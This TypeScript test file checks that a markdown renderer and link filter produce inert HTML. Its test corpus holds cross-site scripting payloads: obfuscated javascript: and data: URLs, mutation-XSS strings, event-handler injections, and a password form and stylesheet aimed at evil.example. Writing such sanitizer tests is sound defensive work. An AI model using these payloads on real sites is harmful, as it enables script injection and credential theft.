/** Rendered texts have no active content: a corpus of attacks on rendered markdown, and random mixtures of it. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from '#test/properties.ts'
import { isSafeLink } from '#text/links.ts'
import { renderMarkdown } from '#text/markdown.ts'
import { renderPlain } from '#text/plain.ts'

const TAGS =
  'a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins ' +
  'kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var'
const TAG = new RegExp(`^<(/?)(${TAGS.split(' ').join('|')})((?: [a-z]+="[^"<>]*")*)(?: /)?>$`)
const ATTRIBUTES = 'align alt checked class colspan disabled height href lang rel rowspan src start title type value width'.split(
  ' ',
)
const CLASS = /^(?:user-mention|op-uc-[a-z0-9_-]+)$/

const decode = (value: string) =>
  value.replace(
    /&(?:amp|lt|gt|quot|#39);/g,
    (entity) => ({ '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' })[entity] ?? "'",
  )

/** Fails unless each `<` begins an allowed tag with allowed attributes and harmless addresses. */
function assertInert(html: string): void {
  for (const piece of html.split(/(?=<)/).filter((text) => text.startsWith('<'))) {
    const [, , tag, attributes = ''] =
      TAG.exec(piece.slice(0, piece.indexOf('>') + 1)) ?? assert.fail(`not a known tag: ${piece}`)
    for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      assert.ok(ATTRIBUTES.includes(name), `attribute ${name} of ${piece}`)
      if (name === 'class') for (const part of value.split(' ')) assert.match(part, CLASS)
      if (name === 'type') assert.equal(`${tag} ${value}`, 'input checkbox')
      if (name === 'href' || name === 'src') assertHarmless(decode(value))
    }
  }
}

function assertHarmless(address: string): void {
  const url = URL.parse(address, 'https://halyard.example/')
  assert.ok(url === null || ['http:', 'https:', 'mailto:'].includes(url.protocol), address)
}

const text = (html: string) => html.replace(/<[^>]*>/g, '')

describe('addresses', () => {
  const safe = [
    'http://a.example',
    'HTTPS://a.example/b:c',
    'mailto:a@b.example',
    '/a',
    'a/b.png',
    '../a',
    '?a:b',
    '#a',
    '#a:b',
    '',
  ]
  for (const address of safe) test(`may be a link: ${address}`, () => assert.ok(isSafeLink(address)))

  const unsafe = {
    script: 'javascript:alert(1)',
    'script in capitals': 'JaVaScRiPt:alert(1)',
    'script after a space': ' javascript:alert(1)',
    'script after a control character': '\u0001javascript:alert(1)',
    'script with a tab': 'java\tscript:alert(1)',
    'script with a line end': 'java\nscript:alert(1)',
    'script percent-encoded': '%6Aavascript%3Aalert(1)',
    'script with a named entity': 'javascript&colon;alert(1)',
    'script with a decimal entity': 'javascript&#58;alert(1)',
    'script with a padded entity': 'javascript&#x00003A;alert(1)',
    'Visual Basic': 'vbscript:msgbox(1)',
    data: 'data:text/html;base64,PHNjcmlwdD4=',
    'data as an image': 'data:image/svg+xml,<svg onload=alert(1)>',
    file: 'file:///etc/passwd',
    'an unknown scheme': 'x-app:run',
    'another host without a scheme': '//evil.example',
    'another host with backslashes': '\\\\evil.example',
    'another host with mixed slashes': '/\\evil.example',
  }
  const inHtml = (address: string) => [
    `<a href="${address}">a</a>`,
    `<a href='${address}'>a</a>`,
    `<a href=${address}>a</a>`,
    `<img src="${address}">`,
  ]
  const inMarkdown = (address: string) => [
    `[a](${address})`,
    `[a](<${address}>)`,
    `![a](${address})`,
    `[a]\n\n[a]: ${address}`,
    `[a]: <${address}>\n\n[a] ![a]`,
    `<${address}>`,
    address,
  ]
  /** These characters change the address of a markdown link: a line end ends it, a backslash is percent-encoded. */
  const MARKDOWN_SYNTAX = /[\n\\]/

  for (const [name, address] of Object.entries(unsafe)) {
    test(`never a link: ${name}`, () => assert.ok(!isSafeLink(address)))
    test(`never a link or image in any notation: ${name}`, () => {
      const encoded = [...address].map((character) => `&#${character.codePointAt(0)};`).join('')
      for (const spelled of [address, encoded])
        for (const raw of [...inHtml(spelled), ...(MARKDOWN_SYNTAX.test(address) ? [] : inMarkdown(spelled))]) {
          const html = renderMarkdown(raw)
          assertInert(html)
          assert.doesNotMatch(html, /<a [^>]*href="(?!mailto:)/, raw)
          assert.doesNotMatch(html, /<img [^>]*src=/, raw)
        }
    })
  }
})

describe('the corpus', () => {
  const corpus = {
    'a script': '<script>alert(1)</script>',
    'a script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'an unfinished script': '<script>alert(1)',
    'an image with a handler': '<img src=x onerror=alert(1)>',
    'a handler after a slash': '<img/src=x/onerror=alert(1)>',
    'a handler on an allowed element': '<details open ontoggle="alert(1)">a</details>',
    'an SVG with a handler': '<svg/onload=alert(1)>',
    'an SVG with a script': '<svg><script>alert(1)</script></svg>',
    'an SVG link': '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    'an SVG animation': '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
    'MathML with a link': '<math><mi href="javascript:alert(1)">a</mi></math>',
    'mutation through MathML':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'mutation through a namespace': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'mutation through a title': '<svg><title><style><img src="</style><img src=x onerror=alert(1)//">',
    'mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    'mutation through a comment': '<!--><img src=x onerror=alert(1)>-->',
    'mutation through CDATA': '<svg><![CDATA[><img src=x onerror=alert(1)>]]>',
    'nested entities': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; <b>a</b> &lt;script&gt;',
    'an entity in an attribute': '<a href="#" title="&quot;&gt;&lt;script&gt;">a</a>',
    'a style laid over the page': '<div style="position:fixed;inset:0">a</div>',
    'a style element': '<style>@import "//evil.example"</style>',
    'an id and a name': '<p id="location" name="cookie">a</p>',
    'a form around its own field':
      '<form id=x action=//evil.example><input name=password type=password><button>ok</button></form>',
    'hooks of scripts': '<a href="/x" data-controller="modal" data-method="delete" class="modal--trigger op-app-header">a</a>',
    'a macro': '<macro class="embedded-table" data-query-props="x">query</macro>',
    'a footnote': 'a[^1]\n\n[^1]: <b id="fn1">note</b>',
    'a set of images': '<img srcset="javascript:alert(1) 1x, //evil.example 2x" src="/a.png" sizes="1px" loading="lazy">',
    'a frame': '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)">a</iframe>',
    'an object': '<object data="data:text/html,x"></object><embed src="javascript:alert(1)">',
    'a base and a redirect': '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    'a stylesheet': '<link rel="stylesheet" href="//evil.example/a.css">',
    'a title that ends its attribute': '[a](/b "\\"><script>alert(1)</script>")',
    'a description that ends its attribute': '![" onerror="alert(1)](/a.png)',
    'a language that ends its attribute': '```js"onmouseover="alert(1)\na\n```',
    'an address that ends its attribute': '[a](/b"onclick="alert(1))',
    'a script within code': '`<script>` and\n\n```html\n<script>alert(1)</script>\n```',
    'a null character': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    'a tag that is never closed': 'a <img src="x" onerror="alert(1)"',
    'end tags of elements around the text': '</div></p></body></html>a',
  }
  for (const [name, raw] of Object.entries(corpus)) {
    test(name, () => assertInert(renderMarkdown(raw)))
    test(`${name}, in an HTML block`, () => assertInert(renderMarkdown(`<div>\n${raw}\n</div>`)))
    test(`${name}, as plain text`, () => assert.doesNotMatch(renderPlain(raw), /<(?!\/?p>|br\/>|\/?a[ >])/))
  }

  test('ids, names, styles, data attributes, handlers and source sets are removed', () => {
    const attributes = 'id="a" name="a" style="top:0" data-a="a" onclick="a" srcset="a 1x" class="a" is="a" slot="a" part="a"'
    for (const tag of TAGS.split(' ')) assertInert(renderMarkdown(`<${tag} ${attributes}>a</${tag}>`))
  })
  test('scripts and styles are removed with their text', () => {
    assert.equal(renderMarkdown('a<script>b</script><style>c</style>d'), '<p class="op-uc-p">ad</p>')
  })
  test('a macro is replaced by its text', () => {
    assert.equal(renderMarkdown('<macro class="toc">contents</macro>'), '<p class="op-uc-p">contents</p>')
  })
  test('the only input is a disabled checkbox', () => {
    const html = renderMarkdown('<input type="checkbox" name="a" form="b"> <input type="text" autofocus>')
    assert.equal(
      html,
      '<p class="op-uc-p"><input type="checkbox" class="op-uc-list--task-checkbox" disabled="disabled" /> <span></span></p>',
    )
  })
  test('text that resembles a tag stays text', () => {
    assert.equal(text(renderMarkdown('&lt;script&gt; <b>a</b>')), '&lt;script&gt; a')
  })
  test('elements that browsers would not nest are not nested, so that no element leaves its container', () => {
    for (const [raw, html] of [
      ['<table><tr><table></table></tr></table>', /<tr[^>]*><span><\/span><\/tr>/],
      ['<ul><li><div><li>a</li></div></li></ul>', /<div><span>a<\/span><\/div>/],
      ['<dl><dd><div><dt>a</dt></div></dd></dl>', /<div><span>a<\/span><\/div>/],
      ['<h1><div><h2>a</h2></div></h1>', /<div><span>a<\/span><\/div>/],
    ] as const)
      assert.match(renderMarkdown(raw), html)
  })
  test('elements are closed in reverse order', () => {
    assert.equal(renderMarkdown('<b><i>a</b></i></div>'), '<p class="op-uc-p"><b><i>a</i></b></p>')
  })

  test('any mixture of the corpus is inert', () => {
    const pieces = [
      ...Object.values(corpus),
      ...'<>"\'`&#@[]()!*_~|\\/=: \n',
      '\n\n',
      '- ',
      '<p>',
      '</p>',
      '<a href="',
      '<td>',
      '-->',
    ]
    const mixture = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 5 })), { maxLength: 12 })
    fc.assert(
      fc.property(mixture, (parts) => assertInert(renderMarkdown(parts.join('')))),
      { numRuns: 500 },
    )
  })
})
